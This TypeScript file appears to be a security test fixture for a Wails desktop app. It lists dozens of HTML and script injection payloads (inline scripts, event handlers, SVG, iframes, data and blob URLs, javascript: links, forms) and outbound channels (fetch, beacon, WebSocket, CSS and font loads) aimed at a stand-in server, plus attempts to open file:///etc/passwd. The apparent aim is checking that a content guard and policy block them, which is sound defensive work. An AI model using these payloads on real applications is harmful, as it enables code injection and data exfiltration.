// The ways in and out that hostile content tries. Each is a piece of HTML that gets into the page, or what script
// would do that is in it already. `away` is a server that counts who comes.

export interface Attack {
  name: string;
  /** Put into the page with its scripts alive. */
  html?: string;
  /** Run in the page, `ground` being where the HTML was put. */
  script?: string;
  /** How it would show without the guard and the policy: a call into Go, a request to the server, the page gone. */
  lands?: 'call' | 'request' | 'gone';
}

/** Script that calls a bound method past everything of the page's: a row named `name` tells that it came through. */
export const call = (name: string): string =>
  `window.webkit.messageHandlers.external.postMessage('C'+JSON.stringify({name:'api.Plan.AddAspiration',args:[{what:'${name}',why:''}],callbackID:'x'}))`;

/** What runs as the page's own script, which no guard around the page can tell from it: against these the policy stands alone. */
export const asThePage = new Set([
  'inline-script', 'script-data', 'img-onerror', 'body-handlers', 'autofocus', 'animation', 'svg-onload', 'svg-script', 'svg-animate', 'media-onerror', 'template', 'math',
  'frame-javascript', 'link-javascript', 'form-javascript', 'eval', 'function', 'timeout-text', 'import-data',
]);

const quoted = (code: string): string => code.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
const page = (name: string): string => `<script>${call(name)}</script>`;

export function attacks(away: string): Attack[] {
  const here = (name: string): string => `${away}/${name}`;
  const html = (name: string, text: string, lands?: Attack['lands'], script?: string): Attack => ({ name, html: text, lands, script });
  const click = 'ground.querySelector("a, button").click()';
  return [
    // Script in what was put in.
    html('inline-script', page('inline-script'), 'call'),
    html('script-data', `<script src="data:text/javascript,${quoted(encodeURIComponent(call('script-data')))}"></script>`, 'call'),
    html('script-away', `<script src="${here('script-away')}"></script>`, 'request'),
    html('script-module', `<script type="module">import "${here('script-module')}"</script>`),
    html('img-onerror', `<img src="/nothing" onerror="${quoted(call('img-onerror'))}">`, 'call'),
    html('body-handlers', `<details open ontoggle="${quoted(call('body-handlers'))}"><summary>x</summary></details>`, 'call'),
    html('autofocus', `<input autofocus onfocus="${quoted(call('autofocus'))}">`, 'call', 'ground.querySelector("input").focus()'),
    html('animation', `<style>@keyframes x{}</style><p style="animation:x 1ms" onanimationstart="${quoted(call('animation'))}">x</p>`, 'call'),
    html('svg-onload', `<svg onload="${quoted(call('svg-onload'))}"></svg>`),
    html('svg-script', `<svg><script>${call('svg-script')}</script></svg>`),
    html('svg-animate', `<svg><a><animate attributeName="href" values="javascript:${quoted(call('svg-animate'))}"/><text y="20">x</text></a></svg>`),
    html('svg-image', `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${call('svg-image')}"><image href="${here('svg-image')}"/></svg>`)}">`),
    html('media-onerror', `<video src="/nothing" onerror="${quoted(call('media-onerror'))}"></video>`, 'call'),
    html('template', `<template shadowrootmode="open">${page('template')}</template>`),
    html('math', `<math><maction actiontype="statusline#x" xlink:href="javascript:${quoted(call('math'))}">x</maction></math>`),

    // Frames: a message from any of them would count as the page's.
    html('frame-srcdoc', `<iframe srcdoc="${quoted(page('frame-srcdoc'))}"></iframe>`, 'call'),
    html('frame-sandboxed', `<iframe sandbox="allow-scripts" srcdoc="${quoted(page('frame-sandboxed'))}"></iframe>`, 'call'),
    html('frame-data', `<iframe src="data:text/html,${encodeURIComponent(page('frame-data'))}"></iframe>`, 'call'),
    html('frame-sandboxed-data', `<iframe sandbox="allow-scripts allow-top-navigation" src="data:text/html,${encodeURIComponent(page('frame-sandboxed-data'))}"></iframe>`, 'call'),
    html('frame-javascript', `<iframe src="javascript:${quoted(call('frame-javascript'))}"></iframe>`, 'call'),
    html('frame-away', `<iframe src="${here('frame-away')}"></iframe>`, 'request'),
    html('frame-sandboxed-away', `<iframe sandbox="allow-scripts" src="${here('frame-sandboxed-away')}"></iframe>`, 'request'),
    html('frame-file', '<iframe src="file:///etc/passwd"></iframe>'),
    html('frame-svg', `<iframe src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><script>${call('frame-svg')}</script></svg>`)}"></iframe>`, 'call'),
    { name: 'frame-blob-html', script: `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([${JSON.stringify(page('frame-blob-html'))}], { type: 'text/html' })); ground.append(f)`, lands: 'call' },
    { name: 'frame-blob-svg', script: `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([${JSON.stringify(`<svg xmlns="http://www.w3.org/2000/svg"><script>${call('frame-blob-svg')}</script></svg>`)}], { type: 'image/svg+xml' })); ground.append(f)`, lands: 'call' },
    html('object-data', `<object data="data:text/html,${encodeURIComponent(page('object-data'))}"></object>`, 'call'),
    html('embed-svg', `<embed type="image/svg+xml" src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><script>${call('embed-svg')}</script></svg>`)}">`, 'call'),

    // Links, forms and what leads away.
    html('link-javascript', `<a href="javascript:${quoted(call('link-javascript'))}">x</a>`, 'call', click),
    html('link-http', `<a href="${here('link-http')}">x</a>`, 'gone', click),
    html('link-blank', `<a target="_blank" href="${here('link-blank')}">x</a>`, undefined, click),
    html('link-data', `<a href="data:text/html,${encodeURIComponent(page('link-data'))}">x</a>`, undefined, click),
    html('link-file', '<a href="file:///etc/passwd">x</a>', undefined, click),
    html('link-download', `<a download="x.desktop" href="${here('link-download')}">x</a>`, undefined, click),
    html('link-download-data', '<a download="x.desktop" href="data:text/plain,x">x</a>', undefined, click),
    html('link-own-file', '<a href="/wails/runtime.js">x</a>', undefined, click),
    html('link-ping', `<a ping="${here('link-ping')}" href="#">x</a>`, undefined, click),
    html('link-mailto', '<a href="mailto:a@example.org">x</a>', undefined, click),
    html('refresh', `<meta http-equiv="refresh" content="0;url=${here('refresh')}">`, 'gone', 'document.head.append(ground.firstChild)'),
    html('form-post', `<form method="post" action="${here('form-post')}"><input name="a" value="b"><button>x</button></form>`, 'gone', click),
    html('form-get-frame', `<form target="_blank" action="${here('form-get-frame')}"><button>x</button></form>`, undefined, click),
    html('form-javascript', `<form action="javascript:${quoted(call('form-javascript'))}"><button>x</button></form>`, 'call', click),
    html('form-formaction', `<form><button formaction="${here('form-formaction')}">x</button></form>`, undefined, click),
    html('base', `<base href="${away}/"><img src="base">`, undefined, 'const b = ground.querySelector("base"); document.head.append(b); const i = new Image(); i.src = "base"; await wait(100); b.remove()'),

    // Requests without script.
    html('img-away', `<img src="${here('img-away')}">`, 'request'),
    html('style-away', `<style>@import url("${here('style-away')}"); p{background:url("${here('style-away')}")}</style><p>x</p>`, 'request'),
    html('stylesheet-away', `<link rel="stylesheet" href="${here('stylesheet-away')}">`, 'request'),
    html('prefetch-away', `<link rel="prefetch" href="${here('prefetch-away')}"><link rel="preload" as="image" href="${here('prefetch-away')}"><link rel="preconnect" href="${away}"><link rel="dns-prefetch" href="${away}">`, 'request'),
    html('font-away', `<style>@font-face{font-family:away;src:url("${here('font-away')}")}</style><p style="font-family:away">x</p>`, 'request'),
    html('media-away', `<video autoplay src="${here('media-away')}"></video>`),

    // Script that is in the page already and wants more of its kind, or out.
    { name: 'eval', script: `(0, eval)(${JSON.stringify(call('eval'))})`, lands: 'call' },
    { name: 'function', script: `new Function(${JSON.stringify(call('function'))})()`, lands: 'call' },
    { name: 'timeout-text', script: `setTimeout(${JSON.stringify(call('timeout-text'))}, 0)`, lands: 'call' },
    { name: 'import-data', script: `import('data:text/javascript,' + encodeURIComponent(${JSON.stringify(call('import-data'))})).catch(() => 0)` },
    { name: 'worker-blob', script: `const w = new Worker(URL.createObjectURL(new Blob(['fetch("${here('worker-blob')}", { mode: "no-cors" })'], { type: 'text/javascript' })))`, lands: 'request' },
    { name: 'service-worker', script: `await navigator.serviceWorker?.register('/assets/nothing.js').catch(() => 0)` },
    { name: 'fetch-away', script: `fetch('${here('fetch-away')}', { mode: 'no-cors' }).catch(() => 0)`, lands: 'request' },
    { name: 'beacon', script: `navigator.sendBeacon('${here('beacon')}', 'x')`, lands: 'request' },
    { name: 'socket', script: `new WebSocket('${here('socket').replace('http', 'ws')}')`, lands: 'request' },
    { name: 'event-source', script: `new EventSource('${here('event-source')}')` },
    { name: 'peer', script: `new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:3478' }] }).createDataChannel('x')` },
    { name: 'open-away', script: `window.open('${here('open-away')}')` },
    { name: 'open-blank', script: `const w = window.open('about:blank'); w?.document.write(${JSON.stringify(page('open-blank'))})` },
    { name: 'location-away', script: `location.href = '${here('location-away')}'`, lands: 'gone' },
    { name: 'location-blob', script: `location.href = URL.createObjectURL(new Blob([${JSON.stringify(page('location-blob'))}], { type: 'text/html' }))`, lands: 'gone' },
    { name: 'location-own-file', script: `location.href = '/wails/runtime.js'`, lands: 'gone' },
    { name: 'location-data', script: `location.href = 'data:text/html,' + encodeURIComponent(${JSON.stringify(page('location-data'))})` },
    { name: 'alert', script: `alert('x'); confirm('x'); prompt('x')` },
    // What Wails would do for a page that only asks.
    { name: 'wails-open', script: `window.webkit.messageHandlers.external.postMessage('BO:${here('wails-open')}')` },
    { name: 'wails-quit', script: `window.webkit.messageHandlers.external.postMessage('Q')` },
    { name: 'wails-inspector', script: `window.webkit.messageHandlers.external.postMessage('wails:showInspector')` },
    { name: 'wails-clipboard', script: `window.webkit.messageHandlers.external.postMessage('C' + JSON.stringify({ args: ['x'], name: ':wails:ClipboardSetText', callbackID: 'x' }))` },
  ];
}
